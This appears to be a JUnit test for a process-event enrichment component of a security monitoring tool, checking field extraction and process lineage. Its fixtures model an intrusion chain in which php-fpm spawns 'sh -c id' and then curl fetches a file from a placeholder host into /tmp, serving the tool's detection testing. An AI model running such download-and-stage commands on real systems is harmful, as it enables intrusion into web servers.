package io.spawnwatch.enrich;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertSame;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.spawnwatch.event.Field;
import io.spawnwatch.event.TestRecords;
import java.nio.file.Path;
import org.junit.jupiter.api.Test;

class EnrichedEventTest {
    private static final Path NO_PROC = Path.of("/nonexistent-proc");

    private final ProcessTable table = new ProcessTable(64, NO_PROC);

    private EnrichedEvent event() {
        return new EnrichedEvent(table, new UserNames(Path.of("/nonexistent-passwd")), new ContainerIds(NO_PROC),
                new BootClock());
    }

    /** Decodes, then records a kept exec as the pipeline's process stage does. */
    private void wrap(EnrichedEvent ev, java.lang.foreign.MemorySegment record) {
        assertTrue(ev.wrap(record, 0));
        if (ev.type() == io.spawnwatch.event.EventType.EXEC) {
            table.recordExec(ev.exec());
        }
    }

    @Test
    void shouldHoldThePortAndTheAddressOfOneSideAtOnce() {
        EnrichedEvent ev = event();
        assertTrue(ev.wrap(TestRecords.connect(4242, 4000, "php-fpm8.2", "php-fpm8.2", 33, 4000, 1, "10.0.0.2",
                "10.0.0.7", 8080), 0));
        CharSequence address = ev.text(Field.DESTINATION_IP);
        CharSequence port = ev.text(Field.DESTINATION_PORT);
        CharSequence source = ev.text(Field.SOURCE_IP);
        assertEquals("10.0.0.7", address.toString());
        assertEquals("8080", port.toString());
        assertEquals("10.0.0.2", source.toString());
        assertNull(ev.text(Field.SOURCE_PORT), "the tracepoint reports no source port");
    }

    @Test
    void shouldWorkEachFieldOutOncePerEventAndAgainForTheNext() {
        EnrichedEvent ev = event();
        wrap(ev, TestRecords.exec(4000, 1, "php-fpm8.2", "systemd", "/usr/sbin/php-fpm8.2", "/", "/sbin/init", 33,
                0, 0, "php-fpm: pool www"));
        wrap(ev, TestRecords.exec(4242, 4000, "sh", "php-fpm8.2", "/usr/bin/dash", "/var/www", "/usr/sbin/php-fpm8.2",
                33, 4000, 1, "sh", "-c", "id"));
        CharSequence image = ev.text(Field.IMAGE);
        assertSame(image, ev.text(Field.IMAGE));
        assertEquals("/usr/bin/dash", image.toString());
        assertEquals("sh -c id", ev.text(Field.COMMAND_LINE).toString());
        assertEquals("php-fpm: pool www", ev.text(Field.PARENT_COMMAND_LINE).toString());
        assertEquals("33", ev.text(Field.USER).toString());

        wrap(ev, TestRecords.exec(4243, 4242, "curl", "sh", "/usr/bin/curl", "/var/www", "/usr/bin/dash", 33, 4000, 2,
                "curl", "-so", "/tmp/x", "http://203.0.113.5/x"));
        assertEquals("/usr/bin/curl", ev.text(Field.IMAGE).toString());
        assertEquals("sh -c id", ev.text(Field.PARENT_COMMAND_LINE).toString());
        assertEquals("curl", ev.text(Field.PROCESS_NAME).toString());
        assertEquals("sh", ev.text(Field.PARENT_NAME).toString());
        assertEquals("php-fpm8.2 > sh > curl", ev.text(Field.LINEAGE_CHAIN).toString());
    }
}
